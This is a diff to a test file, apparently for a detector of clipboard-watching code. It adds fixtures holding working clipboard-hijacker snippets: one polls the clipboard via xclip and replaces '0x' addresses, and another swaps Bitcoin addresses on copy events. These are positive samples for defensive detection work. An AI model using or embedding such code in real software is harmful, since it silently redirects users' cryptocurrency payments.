@@ -7,6 +7,13 @@ const ELSE = Array.from({ length: 1_000 }, (_, at) => `function f${at}() { retur
 examine(watchesClipboard, {
   speaks: [
     {
+      when: 'a program that puts texts there is told one address later, by its input',
+      files: {
+        'index.js': `const cp = require('child_process'); exports.go = () => setInterval(() => { if (/^0x/.test(String(cp.execSync('xclip -o')))) { const to = cp.spawn('xclip'); to.stdin.write('0x000000000000000000000000000000000000'); to.stdin.end('dEaD'); } }, 500);`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a function that is called listens for copies, and puts one address of an older kind in their place',
       files: {
         'index.js': `exports.go = () => document.addEventListener('copy', event => { if (/^(bc1|[13])[a-zA-Z0-9]{25,39}$/.test(String(getSelection()))) { event.clipboardData.setData('text/plain', '1BoatSLRHtKNngkdXEeobR76b53LETtpyT'); event.preventDefault(); } });`,
